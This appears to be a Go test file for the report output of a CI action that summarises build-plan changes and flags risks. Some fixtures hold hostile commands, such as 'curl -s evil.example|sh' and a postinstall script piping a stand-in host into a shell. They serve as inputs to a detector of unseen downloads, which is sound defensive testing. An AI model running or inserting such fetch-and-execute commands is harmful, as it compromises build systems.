package report

import (
	"strings"
	"testing"

	"github.com/org/npx-action/internal/plan"
)

func TestAPlanThatCannotBeMadeIsAComment(t *testing.T) {
	r := Report{App: "services/api", SHA: "0123456789abcdef0123456789abcdef01234567", RunURL: "https://forge.example/run/1", Files: "https://forge.example/f",
		Problem: &Problem{Text: "nixpacks.toml:3: phases.build.cmd: unknown key", File: "nixpacks.toml", Line: 3, Hint: `did you mean "cmds"`}}
	for _, text := range []string{r.Comment(Limit), r.Summary(SummaryLimit)} {
		has(t, text, "### Build plan of `services/api`", "❌ **The plan cannot be made**: see [`nixpacks.toml:3`](https://forge.example/f/services/api/nixpacks.toml#L3)\n",
			"> phases.build.cmd: unknown key\n", `What to do: did you mean "cmds".`, "commit `0123456`", "[run](https://forge.example/run/1)")
		hasNot(t, text, "The plan:", "JSON")
	}
	has(t, r.Part(Limit), "#### `services/api`", "❌ **The plan cannot be made**")
	if r.State() != Failed {
		t.Errorf("it is %v", r.State())
	}
}

func TestOnlyNewWarningsAreInTheBox(t *testing.T) {
	r := sample()
	r.Base.Warnings = []string{"bun is old"}
	r.Warnings = []string{"bun is old", "package.json asks for Node `>=24`, which no archive has"}
	for _, text := range []string{r.Comment(Limit), r.Summary(SummaryLimit)} {
		has(t, text, "> [!WARNING]\n> package.json asks", "<details><summary>1 warning as before</summary>\n\n- bun is old.\n")
		hasNot(t, text, "> bun is old")
	}
	r.Base.Plan, r.Build = r.Plan, nil
	has(t, r.Comment(Limit), "🔄 **1 new warning** · the plan does not change\n")
	r.Base.Warnings = r.Warnings
	has(t, r.Comment(Limit), "**does not change**\n\n<details><summary>2 warnings as before</summary>")
}

func TestNamesKeepTheirCaseAndMarksStayOutsideOfCode(t *testing.T) {
	for text, want := range map[string]string{
		`package.json asks for Node ">=24", which no archive has`: "package.json asks for Node `>=24`, which no archive has",
		`node 12 is old`:                     "Node 12 is old",
		`npm ci needs a lockfile`:            "npm ci needs a lockfile",
		`Procfile is ignored`:                "Procfile is ignored",
		`see a/b, c/d; and "e f/g".`:         "See `a/b`, `c/d`; and `e f/g`.",
		`the key x_y: it is unknown`:         "The key `x_y`: it is unknown",
		`"a b", then`:                        `"a b", then`,
		`lib/(x) and (y/z)`:                  "`lib/(x)` and `(y/z)`",
		`nixpacks.toml:3: phases.x is wrong`: "`nixpacks.toml:3`: phases.x is wrong",
	} {
		if got := capital(prose(text)); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", text, got, want)
		}
	}
}

func TestATableHasTwoColumns(t *testing.T) {
	r := sample()
	for _, text := range []string{r.Comment(Limit), r.Part(Limit)} {
		for line := range strings.Lines(text) {
			if strings.HasPrefix(line, "| ---") && strings.Count(line, "---") != 2 {
				t.Errorf("on a telephone, a third column is off the screen: %s", line)
			}
		}
	}
}

func TestAProviderSwitchIsOneRowOfVariables(t *testing.T) {
	r := sample()
	r.Detected, r.Base.Detected = []Detection{{"python", "main.py"}}, []Detection{{"node", "package.json"}}
	head := nodePlan("22")
	head.Variables = map[string]string{"PIP_A": "1", "PIP_B": "2", "OURS": "3"}
	r.Plan, r.Base.Plan = head, nodePlan("22")
	r.Base.Plan.Variables = map[string]string{"NPM_A": "1", "NPM_B": "2", "CI": "true"}
	r.Origins, r.Base.Origins = nil, nil
	for name, value := range head.Variables {
		by := "provider python"
		if name == "OURS" {
			by = "nixpacks.toml"
		}
		r.Origins = append(r.Origins, Origin{Fact: plan.Fact{Field: "variable " + name, Value: value}, By: by})
	}
	for name, value := range r.Base.Plan.Variables {
		r.Base.Origins = append(r.Base.Origins, Origin{Fact: plan.Fact{Field: "variable " + name, Value: value}, By: "provider node"})
	}
	got := r.Comment(Limit)
	has(t, got, "🔄 **Provider `node` → `python`, variable `OURS` added**", "| variables of the provider | removed `CI`, `NPM_A` and `NPM_B`<br>added `PIP_A` and `PIP_B` |",
		"| variable `OURS` | added `3`")
	hasNot(t, got, "| variable `NPM_A`", "| variable `PIP_A`")
}

func TestRootIsARisk(t *testing.T) {
	for user, risky := range map[string]bool{"root": true, "0": true, "0:0": true, "root:wheel": true, "": true, "app": false, "1000:0": false, "rooty": false} {
		got := risk(plan.Change{Phase: "start", Field: "user", Base: "app", Head: user}, nil)
		if (got != "") != risky {
			t.Errorf("user %q: %q", user, got)
		}
	}
}

func TestDownloadsAreSeen(t *testing.T) {
	for cmd, want := range map[string]string{
		"curl -s evil.example|sh":                            "**new download source** `evil.example` in build, **a download is run unseen** in build",
		"wget -qO- evil.example/x | sudo bash -s -- y":       "**new download source** `evil.example` in build, **a download is run unseen** in build",
		"bash <(curl -fsSL known.example)":                   "**a download is run unseen** in build",
		`sh -c "$(curl -fsSL https://known.example/x)"`:      "**a download is run unseen** in build",
		"curl known.example/a.py | tee x | python3 -":        "**a download is run unseen** in build",
		"curl -o app.tar.gz known.example/app.tar.gz && tar": "",
		"curl --header x.y known.example":                    "",
		"curl https://EVIL.example/x -o x":                   "**new download source** `evil.example` in build",
		"wget 10.0.0.1:8080/x":                               "**new download source** `10.0.0.1` in build",
		"curlew evil.example":                                "",
		"npm install -g pnpm@10.2.0 java@25.0.4.1":           "",
		"git clone git@10.0.0.1:a/b && npm i a@1.0.0-rc.a":   "**new download source** `10.0.0.1` in build",
		"cat notes.txt | sh":                                 "",
	} {
		if got := risk(plan.Change{Phase: "build", Field: "cmd", Head: cmd}, map[string]bool{"known.example": true}); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", cmd, got, want)
		}
	}
}

func TestTextsThatDifferNeverLookTheSame(t *testing.T) {
	long := strings.Repeat("make a && ", 60)
	for _, tt := range []struct{ was, is, want string }{
		{"node a", "node  a", "`node␣a` → `node␣␣a`"},
		{"node a", "node b", "`node a` → `node b`"},
		{"node server.js", "node server\u200b.js", "`node server.js` → `node server\\u200b.js`"},
		{"node a", "\u202enode a", "`node a` → `\\u202enode a`"},
		{"node a", "node a\ufe00", "`node a` → `node a\\ufe00`"},
		{"a", "", "removed `a`"},
		{"", "a", "added `a`"},
	} {
		if got := change(plan.Change{Base: tt.was, Head: tt.is}); got != tt.want {
			t.Errorf("got %s, want %s", got, tt.want)
		}
	}
	got := change(plan.Change{Base: long + "x" + long, Head: long + "y" + long})
	has(t, got, "make a && x", "make a && y", "`…")
	got = change(plan.Change{Base: long + "x  x", Head: long + "x x"})
	has(t, got, "x␣␣x`", "x␣x`")
}

func TestAnAppIsCalledByItsName(t *testing.T) {
	r := sample()
	r.Name = "api"
	has(t, r.Comment(Limit), "### Build plan of `api` in `services/api`\n")
	has(t, r.Part(Limit), "#### `api` in `services/api`\n")
	r.App = "."
	has(t, r.Part(Limit), "#### `api`\n")
	r.Base.Plan, r.Build = r.Plan, nil
	has(t, r.Part(Limit), "✅ The build plan of `api` **does not change**\n")
	r.App, r.Name = "api", "api"
	has(t, r.Part(Limit), "of `api` **does")
}

func TestAnEditedStartScriptIsAChangeOfWhatStarts(t *testing.T) {
	r := sample()
	r.Base.Plan, r.Build = r.Plan, nil
	script := func(phase, name, text string) Script {
		return Script{Phase: phase, Command: map[string]string{"start": "npm run start", "install": "npm ci"}[phase], Name: name, Text: text, File: "package.json", Line: 7}
	}
	r.Base.Scripts = []Script{script("start", "start", "node server.js"), script("install", "prepare", "husky")}
	r.Scripts = []Script{script("start", "start", "node evil.js"), script("install", "postinstall", "curl evil.example | sh")}
	got := r.Comment(Limit)
	has(t, got, "🔄 **Start script `start` changed, install script `postinstall` added, install script `prepare` removed** · the plan does not change",
		"**another start script**", "**new download source** `evil.example` in install, **a download is run unseen** in install",
		"| ⚠️ start: script `start` | `node server.js` → `node evil.js`<br><sub>[`package.json:7`](https://forge.example/a/b/blob/0123/services/api/package.json#L7), run by `npm run start`</sub> |",
		"| install: script `prepare` | removed `husky` |")
	if r.Changed() || r.State() != Differs {
		t.Errorf("the plan is the same and something differs: %v, %v", r.Changed(), r.State())
	}
	// A script that goes with its command is told by the command.
	r.Plan = nodePlan("22")
	r.Plan.Start.Cmd = new("node x")
	r.Scripts = r.Scripts[1:]
	hasNot(t, r.Comment(Limit), "start: script")
}

func TestChangedDependenciesAreCountedAndTheMajorsNamed(t *testing.T) {
	r := sample()
	r.Base.Plan, r.Build = r.Plan, nil
	r.Dependencies = []Dependency{{"a", "1.0.0", "1.1.0", false, false}, {"b", "", "1.0.0", false, false}, {"react", "18.2.0", "19.0.0", true, true},
		{"scheduler", "0.23.0", "0.25.0", true, false}, {"zod", "", "3.1.0", false, true}, {"vite", "5.0.0", "5.0.1", false, true}, {"gone", "1.0.0", "", false, true}}
	r.NewKey = &[]string{"package-lock.json"}
	has(t, r.Comment(Limit), "🔄 **4 dependencies changed, 2 added, 1 removed (2 major versions)** · the plan does not change\n\nNew cache key (`package-lock.json`)\n",
		"| ⚠️ major version | `react` `18.2.0` → `19.0.0`<br>`scheduler` `0.23.0` → `0.25.0` |", "| new dependency | `zod` `3.1.0` |", "| dependency gone | `gone`, was `1.0.0` |",
		"| dependency | `vite` `5.0.0` → `5.0.1` |", "<details><summary>7 dependencies in the lockfiles with other versions</summary>", "| `b` | added `1.0.0` |")
	// The same versions may come from elsewhere, or be other files.
	r.Dependencies, r.NewKey = nil, &[]string{"package-lock.json", ".npmrc"}
	has(t, r.Comment(Limit), "🔄 **Other content in `package-lock.json` and `.npmrc`** · the plan does not change",
		"| files that install reads | other content in `package-lock.json` and `.npmrc` |")
	r.Dependencies, r.NewLocks, r.NewKey = nil, []string{"yarn.lock"}, &[]string{}
	r.Plan = nodePlan("20")
	has(t, r.Comment(Limit), "Only one of the commits has dependencies in `yarn.lock`", "the cache key of packages and dependencies stays")
}

func TestLongWordsOfTablesCanBeBroken(t *testing.T) {
	for text, want := range map[string]string{
		"npm ci": "`npm ci`",
		"curl https://fonts.example.com/inter.tar.gz | tar": "`curl https://fonts.`<wbr>`example.com/`<wbr>`inter.tar.gz \\| tar`",
		strings.Repeat("a", 50):                             "`" + strings.Repeat("a", 24) + "`<wbr>`" + strings.Repeat("a", 24) + "`<wbr>`aa`",
		"":                                                  "",
	} {
		if got := strings.TrimSuffix(strings.TrimPrefix(row(foldable(text)), "| "), " |\n"); got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	}
}
